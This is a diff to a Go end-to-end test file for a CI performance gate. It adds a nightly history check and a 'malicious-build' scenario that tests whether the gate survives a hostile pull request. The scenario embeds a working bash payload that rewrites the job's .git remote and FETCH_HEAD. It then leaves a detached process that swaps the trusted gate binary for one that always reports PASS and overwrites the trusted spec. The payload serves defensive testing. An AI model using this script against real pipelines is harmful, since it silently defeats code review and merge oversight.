@@ -120,8 +120,8 @@ checks:
     min: 1
 `
 
-const fixtureNightly = `# The fixture engine's nightly: two groups (nccl, custom-ar), one per shard, each against the
-# stored baselines of this testbed.
+const fixtureNightly = `# The fixture engine's nightly: two groups (nccl, custom-ar), one per shard: nccl judged against
+# the history of its nights (read-only in the shard), custom-ar against the stored baselines.
 name: nightly
 tags: [nightly]
 engine:
@@ -154,12 +154,18 @@ checks:
   - kind: floor
     metric: kv_cache_tokens
     min: 1000
+  # The nightly detector over the history of nights (docs/history.md): nights 1 and 2 bootstrap
+  # it (RECKON_BOOTSTRAP, no --strict), night 3 is judged against them.
   - kind: throughput
     config: nccl
     workload: decode
     metric: output_throughput
-    against: baseline
+    against: history
+    test: detect
+    history_runs: 2
     min_effect: 50%
+    alpha: 0.06
+    power: 80%
   - kind: throughput
     config: custom-ar
     workload: decode
@@ -211,6 +217,11 @@ func writeFixture(repoRoot, dir string) error {
 	lines := strings.SplitAfter(string(b), "\n")
 	if err := writeFile(filepath.Join(dir, ".reckon/numerics.jsonl"), strings.Join(lines[:min(8, len(lines))], ""), false); err != nil {
 		return err
+	}
+	for _, s := range []string{"contain.py", "reckon.sh"} {
+		if _, err := os.Stat(filepath.Join(repoRoot, "ci/scripts", s)); err == nil {
+			copies["ci/scripts/"+s] = ".reckon/" + s
+		}
 	}
 	for from, to := range copies {
 		if err := copyFile(filepath.Join(repoRoot, from), filepath.Join(dir, to)); err != nil {
@@ -269,20 +280,83 @@ func copyFile(from, to string) error {
 type scenario struct {
 	name, expected string
 	edit           func(dir string) error
+	// byTemplate overrides expected for a template (github, gitlab, buildkite).
+	byTemplate map[string]string
 }
+
+// expect is the verdict the scenario must get from template t.
+func (sc scenario) expect(t string) string {
+	if e, ok := sc.byTemplate[t]; ok {
+		return e
+	}
+	return sc.expected
+}
+
+// maliciousBuild is what the malicious-build PR puts at the top of its build.sh (the PR's code
+// that the templates run in their build step): it rewrites the job's .git (remote.origin.url and
+// FETCH_HEAD point at a repository of its own whose .reckon/premerge.yaml has checks: []) and
+// leaves a process behind that waits for the trusted tree and then swaps trusted/.bin/reckon for
+// a script that runs reckon and says PASS, exit 0, whatever it found, and the trusted spec for
+// the checks: [] one. Its engine is also twice as slow: a gate that is still the trusted one
+// judges it red.
+const maliciousBuild = `#!/usr/bin/env bash
+set -euo pipefail
+# --- the attack (templates-e2e malicious-build) ---
+ws="$PWD"
+src="$(cd "$(dirname "$0")" && pwd)"
+evil="$(mktemp -d)"
+cp -r "$src/.reckon" "$evil/"
+sed -i '/^checks:/,$d' "$evil/.reckon/premerge.yaml"
+echo 'checks: []' >> "$evil/.reckon/premerge.yaml"
+cp "$evil/.reckon/premerge.yaml" "$evil/loose.yaml"
+git -C "$evil" init -q -b main
+git -C "$evil" add .reckon
+git -C "$evil" -c user.name=x -c user.email=x@x commit -qm evil
+for g in "$ws/.git" "$ws/pr/.git" "$ws/base/.git" "$src/.git"; do
+	[ -d "$g" ] || continue
+	git --git-dir "$g" fetch -q "$evil" main || true
+	git --git-dir "$g" config remote.origin.url "$evil"
+	printf '%s\t\tbranch '"'"'main'"'"' of %s\n' "$(git -C "$evil" rev-parse HEAD)" "$evil" > "$g/FETCH_HEAD"
+done
+cat > "$evil/swap.sh" <<'SWAP'
+#!/usr/bin/env bash
+ws="$1" evil="$2"
+for _ in $(seq 1 3000); do
+	[ -d "$ws" ] || exit 0
+	for d in "$ws/trusted/.bin" "$ws/.bin"; do
+		if [ -f "$d/reckon" ] && [ ! -e "$d/.real-reckon" ]; then
+			cp "$d/reckon" "$d/.real-reckon"
+			printf '#!/bin/sh\n"%s/.real-reckon" "$@"\n[ $? = 0 ] || echo "PASS: 0 passed (swapped reckon)"\nexit 0\n' "$d" > "$d/reckon.new"
+			chmod +x "$d/reckon.new" && mv "$d/reckon.new" "$d/reckon"
+			echo "malicious-build: swapped $d/reckon" >> "$ws.attack.log"
+		fi
+	done
+	s="$ws/trusted/.reckon/premerge.yaml"
+	if [ -f "$s" ] && ! cmp -s "$s" "$evil/loose.yaml"; then
+		cp "$evil/loose.yaml" "$s"
+		echo "malicious-build: swapped $s" >> "$ws.attack.log"
+	fi
+	sleep 0.2
+done
+SWAP
+( setsid bash "$evil/swap.sh" "$ws" "$evil" </dev/null >/dev/null 2>&1 & )
+echo "malicious-build: rewrote .git (remote.origin.url, FETCH_HEAD), left the swapper running" >> "$ws.attack.log"
+echo "malicious-build: .git rewritten, swapper left running (log $ws.attack.log)"
+# --- the engine's own build ---
+`
 
 var scenarios = []scenario{
 	{"healthy", "green", func(dir string) error {
 		return writeFile(filepath.Join(dir, "README.md"), "# fixture engine\n\nA harmless change.\n", false)
-	}},
+	}, nil},
 	// Every step twice as slow: far beyond the run-to-run noise of a 2-core machine.
 	{"slow", "red", func(dir string) error {
 		return writeFile(filepath.Join(dir, "engine.flags"), "--fault-slowdown 2", false)
-	}},
+	}, nil},
 	// The custom allreduce off by 1% on every sum.
 	{"numerics", "red", func(dir string) error {
 		return writeFile(filepath.Join(dir, "engine.flags"), "--fault-allreduce-error 1e-2", false)
-	}},
+	}, nil},
 	// Slow, and the PR rewrites its gate to pass (the spec) and its baselines: the trusted
 	// spec of the base commit still judges it.
 	{"loosened-spec", "red", func(dir string) error {
@@ -293,7 +367,54 @@ var scenarios = []scenario{
 			return err
 		}
 		return writeFile(filepath.Join(dir, ".reckon/baselines/README"), "loosened by the PR\n", false)
-	}},
+	}, nil},
+	// Slow, and its build attacks the job (maliciousBuild). Where the trusted tree exists before
+	// the build (GitLab, Buildkite) the swap happens and the templates' digest check refuses to
+	// run the gate (exit 3); on GitHub the trusted tree is checked out after the build, the
+	// swapper is ended with the build, and the trusted gate judges the slow PR red.
+	{"malicious-build", "red", func(dir string) error {
+		if err := writeFile(filepath.Join(dir, "engine.flags"), "--fault-slowdown 2", false); err != nil {
+			return err
+		}
+		b, err := os.ReadFile(filepath.Join(dir, "build.sh"))
+		if err != nil {
+			return err
+		}
+		body := strings.Replace(string(b), "#!/usr/bin/env bash\n", maliciousBuild, 1)
+		return writeFile(filepath.Join(dir, "build.sh"), body, true)
+	}, map[string]string{"gitlab": "refused", "buildkite": "refused"}},
+}
+
+// attackLog sums up what the malicious-build PR's swapper did in the workspaces under ws (the
+// log its build and its swapper keep beside each workspace), for a row's detail.
+func attackLog(detail, ws string) string {
+	logs, _ := filepath.Glob(ws + "*.attack.log")
+	more, _ := filepath.Glob(filepath.Join(ws, "*.attack.log"))
+	swaps := 0
+	for _, l := range append(logs, more...) {
+		b, _ := os.ReadFile(l)
+		swaps += strings.Count(string(b), "swapped ")
+	}
+	if len(logs)+len(more) == 0 {
+		return ""
+	}
+	return fmt.Sprintf("; attack: %d build(s) rewrote .git, %d file(s) swapped", len(logs)+len(more), swaps)
+}
+
+// nights is how many nights the nightly rows run: the first nights bootstrap the history
+// (without --strict, appended), the last is judged against it (--strict) with the fixture's
+// history_runs: 2.
+const nights = 3
+
+// bootstrapNight: nights 1 and 2 bootstrap (the history holds fewer than history_runs runs).
+func bootstrapNight(night int) bool { return night < nights }
+
+// bootstrapInput is the nightly workflow's bootstrap input for a night.
+func bootstrapInput(night int) string {
+	if bootstrapNight(night) {
+		return "true"
+	}
+	return ""
 }
 
 func sh(dir string, env []string, name string, args ...string) (string, error) {
